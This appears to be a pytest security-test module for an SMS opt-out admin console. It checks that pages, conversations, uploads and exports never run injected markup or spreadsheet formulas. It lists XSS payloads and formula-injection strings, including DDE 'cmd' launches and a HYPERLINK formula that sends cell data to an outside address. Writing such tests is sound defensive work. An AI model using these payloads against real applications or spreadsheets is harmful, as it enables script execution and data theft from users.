"""What subscribers and colleagues wrote, where it is shown and handed out: it runs nowhere."""

import csv
import io
from html.parser import HTMLParser
from urllib.parse import quote

import openpyxl
import pytest

from receiver.access import Scope
from receiver.access.people import People
from receiver.access.roles import Role
from receiver.admin.console.cookies import SESSION
from receiver.optout import services
from receiver.vocabulary import Reason
from tests.admin.console.found import Found
from tests.attacks.conftest import House, LogIn

# Each ends the context that it may stand in: text, an attribute in either quote, a script, a comment, a style.
MARKUP = (
    "<script>hacked()</script>",
    '"><img src=x onerror=hacked()>',
    "'><svg onload=hacked()>",
    "</title></style></textarea></script><x-hacked>",
    "--><x-hacked>",
    "javascript:hacked()",
    "{{ hacked }}{% raw %}${hacked}",
    "\u2028</script><x-hacked hx-get=/ hx-trigger=load>",
)


class Elements(HTMLParser):
    """What a browser would find in a page that could run."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "x-hacked" or (tag == "script" and not dict(attrs).get("src", "").startswith("/static/")):  # type: ignore[union-attr]
            self.found.append(self.get_starttag_text() or tag)
        for name, value in attrs:
            runs = name.startswith(("on", "hx-on", "style", "srcdoc")) or "hacked" in name
            leads = name in ("href", "src", "action", "formaction", "hx-get", "hx-post") and not leads_here(value or "")
            if runs or leads:
                self.found.append(f"{tag} {name}={value}")


def leads_here(address: str) -> bool:
    return (address.startswith(("/", "?", "#")) and not address.startswith("//")) or address in ("", "mailto:")


@pytest.fixture(scope="module")
def poisoned(house: House) -> House:
    """Somebody wrote markup wherever they could."""
    for number, markup in enumerate(MARKUP):
        text, line = quote(markup.encode()), markup.replace("\u2028", "")
        phone = b"139000072%02d" % number
        house.reply(b"src=" + phone + b"&dst=1069&msg=" + text.encode())
        house.reply(f"src={text}&dst=1069&msg=0000".encode())
        house.reply(b"src=" + phone + f"&dst={text}&msg=0000".encode())
        house.admin.filled.kept(f"src={text}&msg={text}".encode(), reason=Reason.MISSING_DST)
        services.change(house.admin.store, f"poisoned{number}", line, numbers=[f"1069{number}"])
        api = house.admin.all_powerful
        api.post("/keys", {"name": line[:60], "scopes": ["messages:read"]}).ok()
        api.put(f"/optouts/{phone.decode()}", {"reason": markup, "actor": line}).ok()
        api.delete(f"/optouts/{phone.decode()}", reason=line, actor=line).ok()
        api.put(f"/optouts/{phone.decode()}", {"reason": markup, "actor": line}).ok()
        api.post("/sms", {"text": markup[:60], "phones": [f"1390000730{number}"]})
        People(house.admin.store).invite(line[:60], Role.VIEWER, actor=line)
    return house


def test_no_page_runs_what_somebody_wrote(poisoned: House, log_in: LogIn) -> None:
    visitor = log_in(Role.ADMIN)
    found = Found(poisoned.admin.port, visitor.cookies[SESSION])
    pages = [page for page in found.pages() if page.member]
    assert len(pages) > 20
    seen = 0
    for page in pages:
        for path in (page.path, page.path + "?reveal=1"):
            shown = visitor.get(path)
            assert Elements(shown.text).found == [], path
            seen += "hacked" in shown.text
    assert seen > 10, "what was written is shown, as text"


def test_no_conversation_document_or_stream_runs_it(poisoned: House, log_in: LogIn) -> None:
    visitor = log_in(Role.ADMIN)
    for number, markup in enumerate(MARKUP):
        (message, *_) = poisoned.admin.rows("messages", src=f"+861390000720{number}")
        own = f"/replies/{message['id']}"
        for path in (own, f"{own}/conversation", f"/replies?text={quote(markup)}"):
            assert Elements(visitor.get(path).text).found == [], path
        event = poisoned.admin.rows("ledger", phone=f"+861390000720{number}")[-1]["sequence"]
        assert Elements(visitor.get(f"/optouts/{event}").text).found == []
        proof = visitor.get(f"/optouts/{event}/proof/html").text
        assert [each for each in Elements(proof).found if "hacked" in each] == []


GIVEN_BACK = {
    "/optouts/search": "phone", "/replies/find": "phone", "/people": "name", "/services": "name",
    "/account/zone": "zone", "/sends/new/preview": "text", "/preferences": "next",
}  # fmt: skip


def test_what_is_typed_is_not_given_back_as_markup(house: House, log_in: LogIn) -> None:
    visitor = log_in(Role.ADMIN)
    for markup in MARKUP:
        for path in ("/replies?text=", "/replies?kind=", "/audit?actor=", "/audit?target=", "/quarantine?peer=",
                     "/login?next=", "/optouts?source=", "/nowhere/"):  # fmt: skip
            assert Elements(visitor.get(path + quote(markup)).text).found == [], path
        visitor.get("/account")
        for path, field in GIVEN_BACK.items():
            assert Elements(visitor.post(path, **{field: markup}).text).found == [], path


FORMULAS = [
    "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1",
    "\r=1+1", "\n=1+1", "＝1+1", "＠SUM(1)", "a;=1+1", "a\t=1+1", "a\n=1+1", "a\r\n@SUM(1)", '";=1+1', '",=1+1',
    "';=1+1", ";;=1+1", '=HYPERLINK("http://198.51.100.7/?"&A1)', "x;\t+1", "a\n'b", "a;'=1",
]  # fmt: skip


def test_no_spreadsheet_finds_a_formula(house: House) -> None:
    for text in FORMULAS:
        house.reply(b"src=13900007401&dst=10697401&msg=" + quote(text.encode()).encode())
        house.reply(b"src=" + quote(text.encode()).encode() + b"&dst=10697401&msg=formula")
    api = house.admin.api(Scope.MESSAGES_READ)
    sheet = api.get("/messages/export", dst="10697401", format="csv").body.decode("utf-8-sig")
    for delimiter in ",;\t":  # as Excel's language has it
        for cells in csv.reader(io.StringIO(sheet, newline=""), delimiter=delimiter):
            for cell in cells:
                begins = cell.lstrip(" \t\r\n")
                assert not begins.startswith(("=", "-", "@", "＝", "＠")), (delimiter, cell)
                assert not begins.startswith("+") or begins[1:].isdigit(), (delimiter, cell)
    texts = [row["text"] for row in csv.DictReader(io.StringIO(sheet, newline=""))]
    assert sorted(map(again, texts)) == sorted(FORMULAS + ["formula"] * len(FORMULAS))
    book = openpyxl.load_workbook(io.BytesIO(api.get("/messages/export", dst="10697401", format="xlsx").body))
    assert {cell.data_type for line in book.active for cell in line if cell.value is not None} == {"s"}  # type: ignore[union-attr]


def again(cell: str) -> str:
    """A text as it was, by the rule that the export states."""
    kept = cell.removeprefix("'")
    for mark in ";\t\r\n":
        kept = kept.replace(mark + "'", mark)
    return kept


def test_an_uploaded_list_is_shown_and_never_run(house: House, log_in: LogIn) -> None:
    visitor = log_in(Role.COMPLIANCE)
    visitor.get("/optouts/import")
    lines = "\n".join(f'"{markup.replace(chr(34), chr(34) * 2)}"' for markup in MARKUP)
    name = "<img src=x onerror=hacked()>.csv"
    shown = visitor.upload("/optouts/import", "list", name, f"phone\n{lines}\n".encode(), reason="r")
    assert shown.status == 200
    assert Elements(shown.text).found == []
